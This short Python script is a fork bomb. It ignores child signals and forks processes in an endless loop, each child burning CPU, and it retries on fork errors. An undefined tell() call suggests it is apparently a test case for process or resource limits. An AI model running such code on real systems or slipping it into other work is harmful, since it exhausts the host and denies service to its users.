import os
import signal

tell()
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if not os.fork():
            sum(range(3000000))
            os._exit(0)
    except OSError:
        continue
